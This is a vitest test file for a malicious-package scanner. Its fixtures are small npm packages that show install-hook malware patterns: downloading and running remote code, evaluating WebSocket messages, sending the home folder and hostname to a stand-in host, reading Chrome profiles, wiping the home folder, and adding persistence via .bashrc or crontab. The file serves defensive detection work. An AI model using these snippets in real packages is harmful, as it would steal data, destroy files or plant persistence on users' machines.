/** A sentence is a claim. Each kind that was once said of what it is not true of stands here with both. */
import { describe, expect, test } from 'vitest';
import { scanPackage } from '../src/scan.js';

type Files = Readonly<Record<string, string | Uint8Array>>;

const PROGRAM = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);

const HOOK =
  '{"name":"padder","version":"1.0.0","description":"Pads strings","scripts":{"postinstall":"node index.js"}}';
const COMMAND = '{"name":"padder","version":"1.0.0","description":"Pads strings","bin":"cli.js"}';
const LIBRARY = '{"name":"padder","version":"1.0.0","description":"Pads strings","main":"index.js"}';

const hook = (code: string): Files => ({ 'package.json': HOOK, 'index.js': code });
const command = (code: string): Files => ({ 'package.json': COMMAND, 'cli.js': code });
const library = (code: string): Files => ({ 'package.json': LIBRARY, 'index.js': code });

/** All that is said of a package: what was found, and each step of how. */
async function said(files: Files): Promise<string> {
  const { findings } = await scanPackage({ files });
  return findings.flatMap(({ message, chain }) => [message, ...chain.map(({ says }) => says)]).join('\n');
}

interface Claim {
  readonly sentence: RegExp;
  readonly true: Readonly<Record<string, Files>>;
  readonly untrue: Readonly<Record<string, Files>>;
}

const CLAIMS: readonly Claim[] = [
  {
    sentence: /only if the install folder /,
    true: { 'it is asked for': library(`if (__dirname.includes('sandbox')) eval(text);`) },
    untrue: {
      'an option of what is started there is': library(
        `const options = settings(__dirname);\nif (options.stdio === 'pipe') eval(text);`,
      ),
      'a file is looked for in it': library(
        `const has = p => require('fs').existsSync(p);\nif (has(__dirname)) eval(text);`,
      ),
    },
  },
  {
    sentence: /only if the working folder /,
    true: { 'it is compared': library(`if (process.cwd().endsWith('/target-app')) eval(text);`) },
    untrue: {
      'a text that holds it is looked for in another': library(
        `const { execSync } = require('child_process');\nconst lines = execSync('crontab -l', { encoding: 'utf8' });\nif (!lines.includes('# acme:' + process.cwd())) execSync('crontab -', { input: lines });`,
      ),
    },
  },
  {
    sentence: /only if the home folder /,
    true: { 'it is compared': library(`if (require('os').homedir() === '/home/alice') eval(text);`) },
    untrue: {
      'whether something can be read there is asked': library(
        `const can = folder => { try { require('fs').accessSync(folder); return true; } catch { return false; } };\nif (can(require('os').homedir() + '/bin')) require('child_process').execSync(line);`,
      ),
    },
  },
  {
    sentence: /only if the host name is "analyst"/,
    true: {
      'nothing else will do': library(`if (require('os').hostname() === 'analyst') eval(text);`),
      'in any case of letters': library(`if (require('os').hostname().toLowerCase() === 'analyst') eval(text);`),
      'one of two will do': library(
        `const os = require('os');\nif (os.hostname() === 'analyst' || os.userInfo().username === 'root') eval(text);`,
      ),
    },
    untrue: {
      'something else will do as well': library(
        `if (process.env.FORCE || require('os').hostname() === 'analyst') eval(text);`,
      ),
      'it is the last of two cases': library(
        `switch (require('os').hostname()) {\n  case 'builder':\n  case 'analyst':\n    eval(text);\n}`,
      ),
    },
  },
  {
    sentence: /only if the date /,
    true: { 'it is of today': library(`if (Date.now() > 1767225600000) eval(text);`) },
    untrue: {
      'it is a file’s': library(
        `const { mtime } = require('fs').statSync('a');\nif (new Date(mtime).getTime() > 1767225600000) eval(text);`,
      ),
      'it is how long something took': library(`const begun = start();\nif (Date.now() - begun > 5000) eval(text);`),
    },
  },
  {
    sentence: /locale or time zone/,
    true: {
      'it is asked for': library(
        `if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Minsk') eval(text);`,
      ),
    },
    untrue: { 'letters are made small': library(`if (name.toLocaleLowerCase() === 'minsk') eval(text);`) },
  },
  {
    sentence: /talks to other machines/i,
    true: { 'a server is asked': library(`require('https').get('https://a.invalid');`) },
    untrue: {
      'a method is called `request`': library(
        `class Lock {\n  request(name) { return name; }\n}\nexports.take = () => new Lock().request('a');`,
      ),
      'a text is looked at': library(`exports.is = text => require('net').isIP(text);`),
      'an agent is made': library(`exports.agent = new (require('http').Agent)({ keepAlive: true });`),
      'an old browser’s document is written to': library(
        `const d = new ActiveXObject('htmlfile');\nd.write('');\nd.close();`,
      ),
      'a picture is made': library(`exports.picture = () => new Image(1, 1);`),
      'an error is looked at': library(`exports.isOurs = error => require('axios').isAxiosError(error);`),
    },
  },
  {
    sentence: /encrypts or decrypts/i,
    true: {},
    untrue: {
      'a sum is made': library(`exports.sum = t => require('crypto').createHash('sha256').update(t).digest('hex');`),
    },
  },
  {
    sentence: /checks its sum/,
    true: {
      'a sum with its kind before it is compared': hook(
        `const { createHash } = require('crypto'), fs = require('fs');\nconst hash = createHash('sha512');\nfetch('https://files.invalid/a.bin').then(r => r.text()).then(text => {\n  hash.update(text);\n  if (\`sha512-\${hash.digest('base64')}\` !== require('./package.json').sum) throw new Error('damaged');\n  fs.writeFileSync('a.bin', text);\n});`,
      ),
      'a sum is compared': hook(
        `const { createHash } = require('crypto'), fs = require('fs');\nfetch('https://files.invalid/a.bin').then(r => r.arrayBuffer()).then(bytes => {\n  const sum = createHash('sha256').update(Buffer.from(bytes)).digest('hex');\n  if (sum !== require('./package.json').sum) throw new Error('damaged');\n  fs.writeFileSync('a.bin', Buffer.from(bytes));\n});`,
      ),
    },
    untrue: {
      'the sum is who the machine belongs to': hook(
        `const { createHash } = require('crypto'), os = require('os');\nconst id = createHash('sha256').update(os.hostname()).digest('hex');\nfetch('https://stats.invalid/' + id);`,
      ),
      'the sum names a file': hook(
        `const { createHash } = require('crypto'), fs = require('fs');\nfetch('https://files.invalid/a.bin').then(r => r.text()).then(text => fs.writeFileSync(createHash('md5').update(text).digest('hex'), text));`,
      ),
      'who the machine belongs to is compared': hook(
        `const { createHash } = require('crypto'), os = require('os');\nif (createHash('md5').update(os.hostname()).digest('hex') !== 'd41d8cd9') fetch('https://stats.invalid/a');`,
      ),
    },
  },
  {
    sentence: /and runs it$|and loads it$/m,
    true: {
      'it is started': hook(
        `const fs = require('fs'), cp = require('child_process'), file = __dirname + '/part.exe';\nfetch('https://files.invalid/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(file, Buffer.from(b)); cp.spawn(file, ['--serve']); });`,
      ),
      'an interpreter runs it': hook(
        `const fs = require('fs'), cp = require('child_process');\nfetch('https://files.invalid/a').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/part.py', t); cp.execSync('cd /tmp && python3 -u /tmp/part.py'); });`,
      ),
      'it is loaded': hook(
        `const fs = require('fs');\nfetch('https://files.invalid/a').then(r => r.text()).then(t => { fs.writeFileSync('./part.js', t); require('./part'); });`,
      ),
    },
    untrue: {
      'another file of that name is loaded': {
        ...hook(
          `const fs = require('fs'), path = require('path'), os = require('os'), tool = require('./lib/tool');\nfetch('https://files.invalid/a').then(r => r.arrayBuffer()).then(b => fs.writeFileSync(path.join(os.tmpdir(), 'cache', 'tool'), Buffer.from(b)));\nconsole.log(tool.version);`,
        ),
        'lib/tool.js': 'exports.version = 1;',
      },
      'it is where something else is started': hook(
        `const fs = require('fs'), cp = require('child_process'), folder = 'work/part';\nfetch('https://files.invalid/a').then(r => r.text()).then(t => fs.writeFileSync(folder, t));\ncp.spawnSync('git', ['status'], { cwd: folder, env: { PART: folder } });`,
      ),
      'it is unpacked': hook(
        `const fs = require('fs'), cp = require('child_process'), file = '/tmp/part.zip';\nfetch('https://files.invalid/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(file, Buffer.from(b)); cp.execFileSync('powershell.exe', ['-NoProfile', '-Command', "Expand-Archive -Force -LiteralPath '/tmp/part.zip' -DestinationPath 'x'"]); cp.execSync('pkgutil --expand-full "/tmp/part.zip" x'); });`,
      ),
      'a script is told where it is': hook(
        `const fs = require('fs'), cp = require('child_process'), file = '/tmp/part.bin';\nfetch('https://files.invalid/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(file, Buffer.from(b)); cp.spawnSync('node', ['check.js', file]); });`,
      ),
      'another function has a parameter of that name': library(
        `const fs = require('fs'), cp = require('child_process');\nexports.save = (file, url) => fetch(url).then(r => r.text()).then(t => fs.writeFileSync(file, t));\nexports.start = file => cp.spawn(file, []);`,
      ),
      'another program of that name is started': hook(
        `const fs = require('fs'), cp = require('child_process'), path = require('path');\nfetch('https://files.invalid/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(path.join(__dirname, 'dist', 'node'), Buffer.from(b)); cp.execSync('node build.js'); });`,
      ),
    },
  },
  {
    sentence: /reaches for browser profiles/i,
    true: {
      'they are listed': library(
        `const fs = require('fs'), os = require('os');\nfs.readdirSync(os.homedir() + '/Library/Application Support/Google/Chrome/Default');\nfetch('https://a.invalid');`,
      ),
    },
    untrue: {
      'a help text speaks of them': library(
        `exports.help = 'Folder of the profile, e.g. ~/Library/Application Support/Google/Chrome on macOS or ~/.config/google-chrome on Linux';\nfetch('http://localhost:9222/json');`,
      ),
      'an option is described by them': library(
        `require('yargs').option('profile', { describe: '~/.mozilla/firefox/default' });\nfetch('http://localhost:9222/json');`,
      ),
    },
  },
  {
    sentence: /deletes every file that it finds from the top down/i,
    true: {
      'it walks from the home folder': library(
        `const fs = require('fs'), os = require('os');\nfunction clean(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const file = dir + '/' + name;\n    if (fs.statSync(file).isDirectory()) clean(file);\n    else fs.unlinkSync(file);\n  }\n}\nclean(os.homedir());`,
      ),
    },
    untrue: {
      'one function lists the home folder and another cleans': library(
        `const fs = require('fs'), os = require('os');\nexports.list = () => fs.readdirSync(os.homedir());\nexports.clean = function clean(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const file = dir + '/' + name;\n    if (fs.statSync(file).isDirectory()) clean(file);\n    else fs.unlinkSync(file);\n  }\n};`,
      ),
    },
  },
  {
    sentence: /sends home folder|asks for the home folder/i,
    true: {
      'it is sent': library(
        `fetch('https://a.invalid', { method: 'POST', body: require('os').homedir() + require('os').hostname() });`,
      ),
    },
    untrue: {
      'it is beside what is sent': library(
        `const os = require('os');\nconst options = Object.assign({}, { host: 'https://a.invalid' }, given);\noptions.cache = os.homedir();\nfetch(options.host + '/latest', { method: 'POST', body: options.revision + os.hostname() });`,
      ),
      'the name of a file in it is': library(
        `const os = require('os'), path = require('path');\nconst file = path.join(os.homedir(), '.cache', 'tool.zip');\nfetch('https://a.invalid/' + path.basename(file), { method: 'POST', body: os.hostname() });`,
      ),
    },
  },
  {
    sentence: /fetches text with|receives what a message answers/i,
    true: {
      'another server sends it': library(
        `const s = new WebSocket('wss://stage.invalid');\ns.addEventListener('message', e => eval(e.data));`,
      ),
    },
    untrue: {
      'the page’s own server sends it': library(
        `const s = new WebSocket((location.protocol === 'https:' ? 'wss://' : 'ws://') + location.host + '/swap');\ns.onmessage = e => eval(e.data);`,
      ),
    },
  },
  {
    sentence: /makes something start again and again:/i,
    true: {
      'whoever loads it': library(`require('child_process').execSync('crontab jobs.txt');`),
      'a login script is added to': hook(`require('child_process').execSync('echo node a.js >> ~/.bashrc');`),
    },
    untrue: {
      'whoever calls its command': command(
        `require('child_process').execSync('schtasks /create /tn a /tr "acme tidy" /sc daily');`,
      ),
      'a login script is read': hook(`require('child_process').execSync('grep acme ~/.bashrc');`),
      'a login script is put aside': hook(`require('child_process').execSync('cp ~/.bashrc ~/.bashrc-before');`),
    },
  },
  {
    sentence: /^starts a program/im,
    true: { 'it is one of its own': library(`require('child_process').spawn(__dirname + '/part.exe', ['--serve']);`) },
    untrue: {
      'it is asked for its version': library(
        `require('child_process').execFileSync('C:\\\\Tools\\\\edge.exe', ['--version']);`,
      ),
      'its user’s words are handed on': command(
        `require('child_process').spawn(__dirname + '/part.exe', process.argv.slice(2));`,
      ),
    },
  },
  {
    sentence: /names .*, a native program which the package brings/i,
    true: {
      'in quotes': {
        ...hook(`require('child_process').spawn(require('path').join(__dirname, 'bin', 'worker'));`),
        'bin/worker': PROGRAM,
      },
    },
    untrue: {
      'as a folder of somebody else’s': {
        ...hook(
          `const { join } = require('path');\nrequire('fs').mkdirSync(join(process.env.APPDATA, 'worker'));\nrequire('child_process').execSync('node-gyp rebuild');`,
        ),
        'bin/worker': PROGRAM,
      },
      'as a word of a comment': {
        ...hook(
          `// Sets the worker up.\nrequire('fs').mkdirSync('.worker');\nrequire('child_process').execSync('node-gyp rebuild');`,
        ),
        'bin/worker': PROGRAM,
      },
    },
  },
];

for (const { sentence, true: holds, untrue } of CLAIMS) {
  describe(`${sentence}`, () => {
    test.each(Object.entries(holds))('is said where %s', async (_, files) => {
      expect(await said(files)).toMatch(sentence);
    });

    test.each(Object.entries(untrue))('is not said where %s', async (_, files) => {
      expect(await said(files)).not.toMatch(sentence);
    });
  });
}
